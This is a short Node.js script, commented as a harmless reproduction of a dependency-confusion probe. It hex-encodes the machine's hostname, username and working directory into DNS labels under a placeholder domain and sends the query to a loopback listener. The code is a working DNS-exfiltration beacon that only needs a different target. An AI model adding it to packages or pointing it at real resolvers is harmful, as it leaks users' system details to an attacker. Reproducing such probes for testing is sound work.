// Harmless reproduction of a dependency-confusion probe: hex-encode host,
// user and cwd into DNS labels and send the query straight to a resolver of
// our choosing (the loopback listener the test runs).
const dgram = require('dgram');
const os = require('os');
const hex = (s) => Buffer.from(s).toString('hex').slice(0, 60);
const labels = [hex(os.hostname()), hex(os.userInfo().username), hex(process.cwd()), 'cfg', 'oast', 'example'];
const q = [Buffer.from([0x13, 0x37, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0])];
for (const l of labels) q.push(Buffer.from([l.length]), Buffer.from(l));
q.push(Buffer.from([0, 0, 1, 0, 1]));
const s = dgram.createSocket('udp4');
s.send(Buffer.concat(q), 53, '127.0.0.1', () => s.close());
